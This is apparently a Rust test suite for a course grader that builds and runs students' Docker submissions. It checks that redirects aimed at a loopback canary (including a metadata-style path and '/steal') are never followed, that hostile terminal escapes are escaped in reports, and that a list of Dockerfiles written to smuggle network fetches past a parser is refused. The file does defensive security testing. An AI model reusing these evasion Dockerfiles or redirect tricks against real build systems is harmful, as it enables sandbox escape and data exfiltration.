//! The grader reaches nothing but the submission: a redirect is an answer,
//! never followed, and what a submission sends reaches the reports escaped.
//! Each attack points at a canary listening on the host's loopback, which
//! must receive nothing.

mod support;

use grader::result::ContainerVerdict;
use std::net::TcpListener;
use support::{Image, engine, grade, lost, submission, verdict_of, week08};

/// A listener on the host's loopback that no one should ever connect to.
struct Canary {
    listener: TcpListener,
}

impl Canary {
    fn new() -> Canary {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("canary");
        listener.set_nonblocking(true).expect("nonblocking");
        Canary { listener }
    }

    fn url(&self, path: &str) -> String {
        let port = self.listener.local_addr().expect("addr").port();
        format!("http://127.0.0.1:{port}{path}")
    }

    fn assert_silent(&self) {
        assert!(
            self.listener.accept().is_err(),
            "the canary on the host's loopback received a connection"
        );
    }
}

#[tokio::test]
async fn a_redirect_at_health_is_never_ready_and_never_followed() {
    let Some(docker) = engine().await else { return };
    let canary = Canary::new();
    let to = canary.url("/latest/meta-data/");
    let dir = submission("redirect-health", Image::Good, &[("REDIRECT_TO", &to)]);
    let mut lab = week08();
    lab.container.ready_timeout_secs = 4;
    let report = grade(&docker, lab, dir.path()).await;
    canary.assert_silent();
    assert_eq!(
        report.container.verdict,
        ContainerVerdict::NeverReady,
        "{report:#?}"
    );
    let detail = report.container.detail.clone().unwrap_or_default();
    assert!(
        detail.contains(&format!(
            "GET /health answered 302 (a redirect to {to}, which the grader does not follow)"
        )),
        "{detail}"
    );
}

#[tokio::test]
async fn a_redirect_at_predict_is_judged_as_an_answer() {
    let Some(docker) = engine().await else { return };
    let canary = Canary::new();
    let to = canary.url("/steal");
    let dir = submission("redirect-predict", Image::Good, &[("REDIRECT_TO", &to)]);
    let report = grade(&docker, week08(), dir.path()).await;
    canary.assert_silent();
    assert_eq!(report.container.verdict, ContainerVerdict::Ran);
    // Every check that posts to /predict fails on the 302, and nothing else.
    let lost = lost(&report);
    assert!(
        lost.iter().all(|id| id != "health" && id != "version"),
        "{lost:?}"
    );
    assert!(lost.contains(&"predict.batch".to_string()), "{lost:?}");
    let batch = verdict_of(&report, "predict.batch");
    let message = batch.message.as_deref().unwrap_or("");
    assert!(message.contains("302"), "{message}");
}

#[tokio::test]
async fn a_hostile_body_reaches_every_report_escaped() {
    let Some(docker) = engine().await else { return };
    let dir = submission("hostile-body", Image::Good, &[]);
    let report = grade(&docker, week08(), dir.path()).await;
    assert_eq!(lost(&report), vec!["version".to_string()], "{report:#?}");
    let message = verdict_of(&report, "version")
        .message
        .clone()
        .unwrap_or_default();
    // The check's message quotes the body as the submission sent it ...
    assert!(message.contains("\u{1b}[2J"), "{message:?}");
    // ... and no writer lets it act: the terminal table shows it escaped,
    let plain = grader::report::table(&report, false);
    for raw in ['\u{1b}', '\0', '\u{7}', '\r', '\u{202e}'] {
        assert!(!plain.contains(raw), "raw {raw:?} in the table:\n{plain}");
    }
    assert!(plain.contains("\\x1b[2J"), "{plain}");
    // (on a terminal the table's own colours are escapes; the body's are not)
    let coloured = grader::report::table(&report, true);
    for raw in ["\u{1b}[2J", "\u{1b}[H", "\u{1b}]8", "\r", "\0"] {
        assert!(
            !coloured.contains(raw),
            "raw {raw:?} in the table:\n{coloured}"
        );
    }
    // the Markdown quotes it where nothing renders,
    let markdown = grader::report::markdown(&report);
    let rendered: Vec<_> =
        pulldown_cmark::Parser::new_ext(&markdown, pulldown_cmark::Options::ENABLE_TABLES)
            .filter(|e| {
                matches!(
                    e,
                    pulldown_cmark::Event::Html(_)
                        | pulldown_cmark::Event::InlineHtml(_)
                        | pulldown_cmark::Event::Start(
                            pulldown_cmark::Tag::Link { .. } | pulldown_cmark::Tag::Image { .. }
                        )
                )
            })
            .collect();
    assert!(rendered.is_empty(), "{rendered:?} in\n{markdown}");
    assert_eq!(markdown.matches("\n#").count(), 0, "{markdown}");
    // and the JSON keeps it as a string that reads back exactly.
    let json: serde_json::Value =
        serde_json::from_str(&grader::report::json(&report)).expect("the report is JSON");
    let back = json["checks"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["id"] == "version"))
        .and_then(|c| c["message"].as_str())
        .unwrap_or_default();
    assert_eq!(back, message);
}

/// A canary that answers every connection by closing it, and counts them:
/// the engine's fetch then fails at once instead of waiting.
struct Counting {
    port: u16,
    seen: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Counting {
    fn new() -> Counting {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("canary");
        let port = listener.local_addr().expect("addr").port();
        let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = seen.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(conn);
            }
        });
        Counting { port, seen }
    }

    fn count(&self) -> usize {
        self.seen.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// Builds `dockerfile` with the engine directly, as the grader used to: the
/// network off, no grader in the way. Returns whether the build succeeded.
async fn raw_build(docker: &bollard::Docker, dockerfile: &str, args: &[(&str, &str)]) -> bool {
    use futures_util::StreamExt;
    let mut tar = tar::Builder::new(Vec::new());
    for (name, body) in [("Dockerfile", dockerfile), ("local.txt", "local\n")] {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, name, body.as_bytes())
            .expect("append");
    }
    let body = tar.into_inner().expect("tar");
    let args: std::collections::HashMap<String, String> = args
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let labels = std::collections::HashMap::from([(
        "dev.mlops-course.grader".to_string(),
        "true".to_string(),
    )]);
    let opts = bollard::query_parameters::BuildImageOptionsBuilder::default()
        .networkmode("none")
        .rm(true)
        .forcerm(true)
        .nocache(true)
        .buildargs(&args)
        .labels(&labels)
        .build();
    let mut stream = docker.build_image(opts, None, Some(bollard::body_full(body.into())));
    let mut ok = true;
    // Every image the build made, intermediate layers too (a failed build
    // leaves its earlier steps' images behind), to remove them afterwards.
    let mut made: Vec<String> = Vec::new();
    let deadline = tokio::time::sleep(std::time::Duration::from_secs(60));
    tokio::pin!(deadline);
    loop {
        tokio::select! {
            item = stream.next() => match item {
                Some(Ok(info)) => {
                    if let Some(id) = info.stream.as_deref().and_then(|l| l.trim().strip_prefix("---> "))
                        && id.chars().all(|c| c.is_ascii_hexdigit())
                    {
                        made.push(id.to_string());
                    }
                    if let Some(id) = info.aux.and_then(|a| a.id) {
                        made.push(id);
                    }
                    if info.error_detail.is_some() {
                        ok = false;
                    }
                }
                Some(Err(_)) => ok = false,
                None => break,
            },
            () = &mut deadline => { ok = false; break }
        }
    }
    drop(stream);
    let force = bollard::query_parameters::RemoveImageOptionsBuilder::default()
        .force(true)
        .build();
    for id in made.iter().rev() {
        let _ = docker.remove_image(id, Some(force.clone()), None).await;
    }
    ok
}

/// What an attack is called, its Dockerfile, and its build arguments.
type Attack = (
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
);

/// Dockerfiles that make the engine fetch from the network, written plainly
/// and written to slip past a reader that is not Docker's own. `{url}` and
/// `{host}` are the canary's.
const FETCHING: &[Attack] = &[
    ("ADD of a URL", "FROM scratch\nADD {url} /x\n", &[]),
    ("lowercase add", "FROM scratch\nadd {url} /x\n", &[]),
    (
        "a continuation before the URL",
        "FROM scratch\nADD \\\n    {url} \\\n    /x\n",
        &[],
    ),
    (
        "a comment inside a continuation",
        "FROM scratch\nADD \\\n# a comment\n {url} /x\n",
        &[],
    ),
    (
        "the escape directive",
        "# escape=`\nFROM scratch\nADD `\n {url} /x\n",
        &[],
    ),
    (
        "the JSON form",
        "FROM scratch\nADD [\"{url}\", \"/x\"]\n",
        &[],
    ),
    (
        "a URL from an ARG",
        "FROM scratch\nARG U={url}\nADD $U /x\n",
        &[],
    ),
    (
        "a URL from an ENV",
        "FROM scratch\nENV U={url}\nADD ${U} /x\n",
        &[],
    ),
    (
        "a URL from a build argument",
        "FROM scratch\nARG U=local.txt\nADD ${U} /x\n",
        &[("U", "{url}")],
    ),
    ("a registry on the host", "FROM {host}/evil:1\n", &[]),
    (
        "a global ARG naming the registry",
        "ARG B={host}/evil:1\nFROM ${B}\n",
        &[],
    ),
    (
        "COPY --from an image on the host",
        "FROM scratch\nCOPY --from={host}/evil:1 /x /x\n",
        &[],
    ),
];

#[tokio::test]
async fn a_dockerfile_that_would_make_the_engine_fetch_is_refused_before_the_build() {
    let Some(docker) = engine().await else { return };
    let canary = Counting::new();
    let host = format!("127.0.0.1:{}", canary.port);
    let url = format!("http://{host}/payload");
    let fill = |s: &str| s.replace("{url}", &url).replace("{host}", &host);
    for (what, dockerfile, args) in FETCHING {
        let dockerfile = fill(dockerfile);
        let args: Vec<(String, String)> =
            args.iter().map(|(k, v)| (k.to_string(), fill(v))).collect();
        // Docker's own reading: the engine, left alone, contacts the canary.
        let before = canary.count();
        let arg_refs: Vec<(&str, &str)> =
            args.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        raw_build(&docker, &dockerfile, &arg_refs).await;
        assert!(
            canary.count() > before,
            "{what}: the engine did not fetch, so this is no attack:\n{dockerfile}"
        );
        // The grader's: refused before the engine sees it, one line naming the line.
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(dir.path().join("Dockerfile"), &dockerfile).expect("write");
        let before = canary.count();
        let report = support::grade_with(
            &docker,
            week08(),
            dir.path(),
            grader::Audience::Student,
            args.iter().cloned().collect(),
        )
        .await;
        assert_eq!(
            canary.count(),
            before,
            "{what}: the canary was reached through the grader"
        );
        assert_eq!(
            report.container.verdict,
            ContainerVerdict::BuildFailed,
            "{what}: {report:#?}"
        );
        let detail = report.container.detail.clone().unwrap_or_default();
        assert!(
            detail.starts_with("Dockerfile line ") && !detail.contains('\n'),
            "{what}: {detail}"
        );
    }
}

/// Instructions that Docker's classic builder would not act on today, refused
/// all the same: a heredoc (whose lines the classic builder reads as
/// instructions), ONBUILD, RUN --mount from an image, an unlisted image.
#[tokio::test]
async fn what_the_lab_does_not_allow_is_refused_with_the_line_named() {
    let Some(docker) = engine().await else { return };
    let cases = [
        (
            "FROM scratch\nRUN <<EOF\necho hi\nEOF\n",
            "line 2",
            "heredoc",
        ),
        (
            "FROM scratch\nONBUILD ADD http://127.0.0.1:9/x /x\n",
            "line 2",
            "URL",
        ),
        (
            "FROM scratch\nRUN --mount=type=bind,from=evil.example/x:1,target=/m true\n",
            "line 2",
            "evil.example/x:1",
        ),
        (
            "FROM evil.example/python:3.12-slim\n",
            "line 1",
            "--allow-image",
        ),
    ];
    for (dockerfile, line, named) in cases {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(dir.path().join("Dockerfile"), dockerfile).expect("write");
        let report = grade(&docker, week08(), dir.path()).await;
        assert_eq!(report.container.verdict, ContainerVerdict::BuildFailed);
        let detail = report.container.detail.clone().unwrap_or_default();
        assert!(
            detail.contains(line) && detail.contains(named),
            "{dockerfile}: {detail}"
        );
    }
}

/// An allowed image that the machine lacks is pulled by the grader, by its
/// name, before the build; when it cannot be had, that is the machine's
/// problem (a grading error), never the student's.
#[tokio::test]
async fn an_allowed_missing_image_is_pulled_by_the_grader_and_its_absence_is_a_grading_error() {
    let Some(docker) = engine().await else { return };
    // The "registry" is a canary on the host's loopback that hangs up.
    let registry = Counting::new();
    let image = format!("127.0.0.1:{}/course/base:1", registry.port);
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("Dockerfile"), format!("FROM {image}\n")).expect("write");
    let request = grader::GradeRequest {
        lab: week08(),
        submission: dir.path().to_path_buf(),
        build_args: Default::default(),
        audience: grader::Audience::Student,
        probe_exe: std::path::PathBuf::from(env!("CARGO_BIN_EXE_grader-probe")),
        runtime: None,
        allow_images: vec![format!("127.0.0.1:{}/course/*", registry.port)],
        progress: std::sync::Arc::new(grader::progress::Quiet),
        fetch_network: None,
        course_key: grader::course_key::CourseKey::practice(),
        build_slots: None,
    };
    let error = match grader::grade(&docker, &request).await {
        Ok(report) => panic!("graded: {report:#?}"),
        Err(e) => e.to_string(),
    };
    assert!(
        registry.count() > 0,
        "the grader did not try to pull {image}"
    );
    assert!(
        error.contains(&format!(
            "{image} (Dockerfile line 1) is not on this machine and could not be pulled"
        )),
        "{error}"
    );
}
